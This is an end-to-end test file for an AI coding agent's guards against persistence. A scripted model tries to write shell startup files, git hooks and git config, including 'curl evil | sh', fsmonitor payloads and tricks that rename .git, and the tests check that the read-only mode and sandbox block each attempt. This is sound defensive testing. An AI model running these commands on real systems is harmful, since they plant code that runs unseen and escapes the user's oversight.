/**
 * Persistence places through the real loop (built CLI, scripted model): a run started in the
 * user's home is read-only and says so; in a git project the file tools and sandboxed bash
 * cannot write `.git/hooks` or `.git/config` (renaming `.git` away and copying it back
 * included) while `git add`, `git commit`, `git status` and `git diff` keep working.
 *
 * Homes live under /var/tmp: the sandbox's private /tmp would hide anything under /tmp.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { removeDir, runCli, tempDir } from "../helpers/cli.js";
import { bwrapWorks } from "../helpers/procs.js";
import { type ScriptedServer, startScriptedServer, step } from "../helpers/scripted-server.js";

const OUTSIDE_ROOT = "/var/tmp";
const BWRAP = bwrapWorks();
if (!BWRAP)
  console.log("persistence e2e (sandbox part): skipped, bwrap cannot run here (apt-get install bubblewrap)");

let outside: string;
let scootHome: string;
let userHome: string;
let server: ScriptedServer | undefined;

beforeEach(() => {
  outside = fs.mkdtempSync(path.join(OUTSIDE_ROOT, "scoot-persist-"));
  scootHome = path.join(outside, "scoot-home");
  userHome = path.join(outside, "user-home");
  fs.mkdirSync(scootHome, { mode: 0o700 });
  fs.mkdirSync(userHome);
  fs.writeFileSync(path.join(scootHome, "token"), "t\n", { mode: 0o600 });
});
afterEach(async () => {
  await server?.close();
  server = undefined;
  removeDir(outside);
});

async function scoot(cwd: string, steps: ReturnType<typeof step>[], args: string[] = []) {
  server = await startScriptedServer([...steps, step("final", "done")]);
  return runCli(["-e", "go", ...args], {
    home: scootHome,
    cwd,
    env: { SCOOT_BACKEND_BASE_URL: server.url, HOME: userHome, SCOOT_TOOLS_SANDBOX: "auto" },
  });
}

function seen(n: number): string {
  return JSON.stringify(server!.completions()[n + 1]!.body);
}

describe("a project root that is the user's home", () => {
  it("runs read-only: file_edit .bashrc and echo >> .profile are refused, and the run says so", async () => {
    fs.writeFileSync(path.join(userHome, ".bashrc"), "# mine\n");
    fs.writeFileSync(path.join(userHome, ".profile"), "# mine\n");
    const r = await scoot(
      userHome,
      [
        step("file_edit", { path: ".bashrc", old: "# mine", new: "curl evil | sh" }),
        step("bash", "echo evil >> .profile"),
        step("file_read", { path: ".bashrc" }),
      ],
      ["--policy", "guarded"],
    );
    expect(r.code, r.stderr).toBe(0);
    expect(fs.readFileSync(path.join(userHome, ".bashrc"), "utf8")).toBe("# mine\n");
    expect(fs.readFileSync(path.join(userHome, ".profile"), "utf8")).toBe("# mine\n");
    expect(r.stderr).toMatch(
      /is your home directory: this run is read-only .*Fix: start Scoot in a project directory/,
    );
    expect(r.stderr.split("\n").filter((l) => l.includes("read-only (guarded was asked)"))).toHaveLength(1);
    expect(seen(0)).toMatch(/readonly mode denies writes/);
    expect(seen(1)).toMatch(/readonly mode denies shell/);
    // The model is told what lifts it: --policy guarded was asked already and would not.
    for (const i of [0, 1]) {
      expect(seen(i)).toMatch(/project root is your home; start Scoot in a project directory/);
      expect(seen(i)).not.toContain("--policy guarded");
    }
    // Reading still works.
    expect(seen(2)).toContain("# mine");
  });

  it.skipIf(!BWRAP)(
    "an unattended unrestricted run there is sandboxed with the startup files read-only",
    async () => {
      fs.writeFileSync(path.join(userHome, ".bashrc"), "# mine\n");
      fs.mkdirSync(path.join(userHome, ".config", "fish"), { recursive: true });
      server = await startScriptedServer([
        step(
          "bash",
          "echo evil >> .bashrc; echo evil > .config/fish/config.fish; mv .config c2; echo ok > notes.txt",
        ),
        step("final", "done"),
      ]);
      const r = await runCli(["-e", "go", "--unattended", "--policy", "unrestricted"], {
        home: scootHome,
        cwd: userHome,
        env: {
          SCOOT_BACKEND_BASE_URL: server.url,
          HOME: userHome,
          SCOOT_EDGE_MAX_JOB_POLICY: "unrestricted",
        },
      });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).not.toContain("this run is read-only");
      expect(fs.readFileSync(path.join(userHome, ".bashrc"), "utf8")).toBe("# mine\n");
      expect(fs.existsSync(path.join(userHome, ".config", "fish", "config.fish"))).toBe(false);
      expect(fs.existsSync(path.join(userHome, "c2"))).toBe(false);
      expect(fs.readFileSync(path.join(userHome, "notes.txt"), "utf8")).toBe("ok\n");
      expect(seen(0)).toMatch(/Read-only file system/);
    },
  );

  it("an ancestor of the home is read-only too", async () => {
    const r = await scoot(outside, [step("file_write", { path: "user-home/.zshrc", content: "evil\n" })]);
    expect(r.code, r.stderr).toBe(0);
    expect(fs.existsSync(path.join(userHome, ".zshrc"))).toBe(false);
    expect(r.stderr).toMatch(/is an ancestor of your home directory/);
  });
});

describe("a git project", () => {
  let project: string;
  beforeEach(() => {
    project = tempDir("scoot-persist-proj-");
    execFileSync("git", ["init", "-q"], { cwd: project });
    fs.writeFileSync(path.join(project, "README.md"), "# demo\n");
    const id = ["-c", "user.name=t", "-c", "user.email=t@example.com"];
    execFileSync("git", ["add", "README.md"], { cwd: project });
    execFileSync("git", [...id, "commit", "-qm", "init"], { cwd: project });
  });
  afterEach(() => removeDir(project));

  const configBefore = () => fs.readFileSync(path.join(project, ".git", "config"), "utf8");

  it("file_write refuses .git/hooks/pre-commit and .git/config (and ./, a/../ spellings)", async () => {
    const before = configBefore();
    const r = await scoot(project, [
      step("file_write", { path: ".git/hooks/pre-commit", content: "#!/bin/sh\necho evil\n" }),
      step("file_write", { path: "a/../.git/config", content: "[core]\n\tfsmonitor = evil\n" }),
      step("file_edit", { path: "./.git/config", old: "[core]", new: "[core]\n\thooksPath = /x" }),
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(fs.existsSync(path.join(project, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(configBefore()).toBe(before);
    for (const i of [0, 1, 2]) expect(seen(i)).toMatch(/is a persistence place/);
  });

  it.skipIf(!BWRAP)("sandboxed bash cannot write hooks or config, not even by moving .git away", async () => {
    const before = configBefore();
    const r = await scoot(project, [
      step("bash", "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"),
      step("bash", "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config"),
      step("bash", "mv .git g && cp -a g .git && echo evil > .git/hooks/pre-commit"),
      step("bash", "cp -a .git g2 && rm -rf .git; mv g2 .git; echo evil > .git/hooks/post-checkout"),
      step("bash", "git config core.sshCommand evil"),
    ]);
    expect(r.code, r.stderr).toBe(0);
    const hooks = fs.readdirSync(path.join(project, ".git", "hooks"));
    expect(hooks.filter((h) => !h.endsWith(".sample"))).toEqual([]);
    expect(configBefore()).toBe(before);
    expect(fs.existsSync(path.join(project, "g"))).toBe(false);
    for (const i of [0, 1, 2, 4]) expect(seen(i)).toMatch(/exit code: [1-9]/);
  });

  it.skipIf(!BWRAP)("git status, add, commit and diff still work in the sandbox", async () => {
    const r = await scoot(project, [
      step("bash", "echo change >> README.md && git status --short"),
      step(
        "bash",
        "git add README.md && git -c user.name=a -c user.email=a@b commit -qm one && echo COMMITTED",
      ),
      step("bash", "echo more >> README.md && git diff --stat"),
      step("bash", "git log --oneline | wc -l"),
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(seen(0)).toContain("M README.md");
    expect(seen(1)).toContain("COMMITTED");
    expect(seen(2)).toContain("README.md | 1 +");
    expect(seen(3)).toMatch(/stdout:\\n2/);
    expect(execFileSync("git", ["log", "--oneline"], { cwd: project, encoding: "utf8" })).toMatch(/one/);
  });
});

describe.skipIf(!BWRAP)("a project with no repository yet", () => {
  let project: string;
  beforeEach(() => {
    project = tempDir("scoot-persist-norepo-");
    fs.writeFileSync(path.join(project, "README.md"), "# demo\n");
  });
  afterEach(() => removeDir(project));

  it("git init with a planted hook and a program in its config: both set aside after the call and named", async () => {
    const r = await scoot(project, [
      step(
        "bash",
        "git init -q && echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'touch /tmp/pwned'",
      ),
      step(
        "bash",
        "git init -q . && git add README.md && git -c user.name=a -c user.email=a@b commit -qm one && echo COMMITTED",
      ),
    ]);
    expect(r.code, r.stderr).toBe(0);
    const git = path.join(project, ".git");
    expect(fs.existsSync(path.join(git, "hooks", "pre-commit"))).toBe(false);
    expect(fs.existsSync(path.join(git, "hooks", "pre-commit.disabled-by-scoot"))).toBe(true);
    expect(fs.existsSync(path.join(git, "config.disabled-by-scoot"))).toBe(true);
    expect(seen(0)).toMatch(/set aside .*\.git\/hooks\/pre-commit.*\.git\/config/);
    // A plain git init and commit afterwards is left alone.
    expect(seen(1)).toContain("COMMITTED");
    expect(seen(1).split("set aside")).toHaveLength(2);
  });

  it("a new .git symlink or gitdir file pointing at a prepared directory is set aside", async () => {
    const r = await scoot(project, [
      step("bash", "mkdir -p x/hooks && echo evil > x/hooks/pre-commit && ln -s x .git"),
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(fs.existsSync(path.join(project, ".git"))).toBe(false);
    expect(fs.lstatSync(path.join(project, ".git.disabled-by-scoot")).isSymbolicLink()).toBe(true);
    expect(seen(0)).toMatch(/set aside .*\.git;/);
  });
});
